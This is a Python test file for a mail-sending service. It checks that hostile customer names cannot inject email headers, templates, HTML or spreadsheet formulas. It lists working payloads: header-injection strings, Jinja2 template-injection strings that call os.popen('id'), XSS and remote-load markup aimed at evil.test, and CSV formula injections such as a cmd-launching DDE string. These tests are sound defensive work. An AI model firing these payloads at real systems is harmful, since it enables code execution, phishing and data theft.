"""What foreign words may not do to our mail: headers, recipients, templates, HTML, spreadsheets."""

from __future__ import annotations

import csv
import email
import email.policy
import re
from dataclasses import replace
from email.message import EmailMessage
from email.utils import getaddresses
from html.parser import HTMLParser

import pytest
from babel import Locale

from daemon.adapters.ledger_values import clean_text
from daemon.adapters.list_file import list_csv, safe_cell
from daemon.adapters.mime import freeze_rep_mail
from daemon.adapters.render import Renderer
from daemon.core.effects import EchoToRep, TellOperator
from daemon.core.letters import LetterContent
from daemon.ports import Frozen
from tests.adapters.letters import NORDWIND, letter, sample
from tests.adapters.test_mime import NOW
from tests.adapters.test_rep_mail import FORWARD
from tests.threats.counts import count
from tests.threats.hostile_names import LETTER_HEADERS, RECIPIENT, frozen, names, send_to

RENDERER = Renderer()
REP_HEADERS = LETTER_HEADERS | {"Auto-Submitted", "Precedence", "Content-Transfer-Encoding"}


def rendered(content: LetterContent) -> Frozen:
    """Render and freeze a letter as the product does."""
    return frozen(RENDERER.letter(content), content)


def filled(name: str) -> LetterContent:
    """Return a letter in which every field of the ledger holds the name."""
    content = letter()
    row = replace(content.demanded[0], number=name, purchase_order=name, payment_reference=name)
    return replace(content, recipient_name=name, account=name, account_name=name, demanded=(row,))


def read(raw: bytes) -> EmailMessage:
    """Parse a mail as a mail program would."""
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    return message


async def test_no_name_adds_a_header_or_a_recipient() -> None:
    """
    Names of a ledger made of line breaks, commands, addresses and encoded words: each is refused
    before a byte is sent, or the mail on the wire has our headers and our one recipient only.
    """
    refused, sent = await send_to(names(count(120, 5_000)), lambda name: rendered(filled(name)))

    assert refused > 0
    assert sent > 0


@pytest.mark.parametrize("evil", ["\r\n", "\n", "\r", "\0", "\u2028", "\u2029", "\x85", "\u202e"])
def test_an_import_refuses_what_breaks_a_line(evil: str) -> None:
    """The clerk is told which character to remove; the name goes nowhere."""
    with pytest.raises(ValueError, match="U\\+"):
        clean_text(f"Acme{evil}Bcc: spy@evil.test")


@pytest.mark.parametrize(
    ("name", "wire"),
    [
        ("Evil <ceo@bank.test>", f'To: "Evil <ceo@bank.test>" <{RECIPIENT}>'),
        ("ceo@bank.test", f'To: "ceo@bank.test" <{RECIPIENT}>'),
        ('"ceo@bank.test" <x>', f'To: "\\"ceo@bank.test\\" <x>" <{RECIPIENT}>'),
        ("ceo@bank.test, other", f'To: "ceo@bank.test, other" <{RECIPIENT}>'),
        ("a (ceo@bank.test)", f'To: "a (ceo@bank.test)" <{RECIPIENT}>'),
    ],
)
def test_a_display_name_is_never_an_address(name: str, wire: str) -> None:
    """A name that shows another address stands in quotes before the true one."""
    head = rendered(filled(name)).raw.partition(b"\r\n\r\n")[0].decode()

    assert wire in head.split("\r\n")


async def test_no_subject_of_a_customer_adds_a_header_to_a_rep_mail() -> None:
    """A forward quotes the customer's subject and name: our headers, one recipient."""
    for name in names(count(60, 10_000)):
        mail = freeze_rep_mail(
            f"Customer disputes: {name}",
            "Please decide.\n",
            key="forward-1",
            to="rep@nordwind.example",
            sender=NORDWIND.sender,
            reply_to="ar+r0ken@nordwind.example",
            message_domain="nordwind.example",
            now=NOW,
        )
        message = email.message_from_bytes(mail.raw, policy=email.policy.compat32)

        assert message["Bcc"] is None
        assert "rep@nordwind.example" == mail.envelope_to
        assert 1 == len(getaddresses([str(message["To"])]))
        assert set(message.keys()) <= REP_HEADERS


# --- templates ------------------------------------------------------------------------------

INJECTIONS = (
    "{{ 7 * 7 }}",
    "{{7*'7'}}",
    "{% raw %}x{% endraw %}",
    "{{ config.items() }}",
    "{{ self._TemplateReference__context }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__ }}",
    '{{ "%s"|format(letter) }}',
    "{% include 'rep/mail.j2' %}",
    "{% set x = letter %}{{ x }}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %> {7*7}",
    "{0.__class__.__init__.__globals__}",
    "%(secret)s %s",
    "{{ [].__class__|attr('__base__') }}",
    "{%- for c in ().__class__.__base__.__subclasses__() -%}{{ c }}{%- endfor -%}",
)


@pytest.mark.parametrize("payload", INJECTIONS)
def test_a_template_in_a_field_is_printed(payload: str) -> None:
    """In letters, forwards, echoes and alarms a payload comes out as the text it is."""
    flat = "".join(payload.split())
    forwarded = replace(
        FORWARD, subject=payload, why=payload, evidence=(payload,), draft_answer=payload
    )
    echo = EchoToRep(key="e", rep="r@nordwind.example", subject=payload, lines=(payload,))
    alarm = TellOperator(key="a", subject=payload, lines=(payload,))
    spoken = [
        RENDERER.letter(filled(payload)).text,
        *RENDERER.forward(forwarded, payload),
        *RENDERER.echo(echo),
        *RENDERER.alarm(alarm),
    ]

    assert [] == [text for text in spoken if flat not in "".join(text.replace("\n> ", "").split())]


# --- HTML -----------------------------------------------------------------------------------

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/p.gif>",
    "<svg/onload=alert(1)>",
    '"><iframe src=//evil.test>',
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.test/p)',
    "<style>@import '//evil.test/a.css';</style>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<a href='javascript:alert(1)'>pay here</a>",
    "<a href=https://evil.test>pay here</a>",
    "<form action=//evil.test><input name=pin></form>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<object data=cid:x></object><embed src=cid:x>",
    "</td></table><h1>New bank details</h1>",
    "<!--[if mso]><v:rect><v:fill src=//evil.test/p></v:rect><![endif]-->",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\\u003cscript\\u003e",
)
TAGS_OF_OURS = {
    "a", "body", "br", "div", "h1", "h2", "head", "hr", "html", "img", "meta", "p", "span",
    "li", "strong", "style", "ul", "table", "tbody", "td", "th", "thead", "title",
    "tr", "b", "em", "tfoot",
}  # fmt: skip


class Nodes(HTMLParser):
    """Collects tags and attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def nodes(html: str) -> Nodes:
    """Parse HTML."""
    found = Nodes()
    found.feed(html)
    return found


@pytest.mark.parametrize("payload", MARKUP)
def test_markup_in_a_field_is_no_node_of_the_letter(payload: str) -> None:
    """The letter has the nodes that it has without the payload; nothing runs, nothing is loaded."""
    plain = nodes(RENDERER.letter(filled("Acme")).html)
    found = nodes(RENDERER.letter(filled(payload)).html)
    remote = [
        value
        for name, value in found.attributes
        if name in ("src", "href", "action", "background", "data") and "nordwind" not in value
        and not value.startswith("cid:")
    ]  # fmt: skip

    assert plain.tags == found.tags
    assert set(found.tags) <= TAGS_OF_OURS
    assert [] == remote
    assert [] == [name for name, _ in found.attributes if name.startswith("on")]
    assert [] == [value for _, value in found.attributes if re.search(r"url\(|import|evil", value)]


@pytest.mark.parametrize("payload", MARKUP)
def test_a_forward_is_text_and_the_original_stays_shut(payload: str) -> None:
    """A rep's mail has no HTML of its own; the customer's lies inside as message/rfc822."""
    original = (
        b"From: x@evil.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html\r\n\r\n" + payload.encode() + b"\r\n"
    )
    subject, text = RENDERER.forward(replace(FORWARD, evidence=(payload,)), "")
    mail = freeze_rep_mail(
        subject,
        text,
        key="forward-1",
        to="rep@nordwind.example",
        sender=NORDWIND.sender,
        reply_to="ar+r0ken@nordwind.example",
        message_domain="nordwind.example",
        now=NOW,
        original=original,
    )
    parts = [part.get_content_type() for part in read(mail.raw).iter_parts()]

    assert ["text/plain", "message/rfc822"] == parts


# --- spreadsheets ---------------------------------------------------------------------------

FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.test\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "|calc", "%0A=1", "=cmd|' /C calc'!A0", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    " =1+1", "\u200e=1+1", "\u202e=1+1", "\0=1+1", "−1+1",
)  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_list_is_a_formula(formula: str) -> None:
    """Number, purchase order and reference come out as text, whatever they begin with."""
    content = sample("60 rows in a list")
    row = replace(
        content.demanded[0], number=formula, purchase_order=formula, payment_reference=formula
    )
    octets = list_csv(replace(content, demanded=(row,)), Locale("en"), lambda name: name)
    cells = next(csv.reader(octets.decode("utf-8-sig").splitlines()[1:]))

    assert ["'"] * 3 == [cells[place][:1] for place in (1, 10, 11)]
    assert safe_cell(formula).startswith("'")
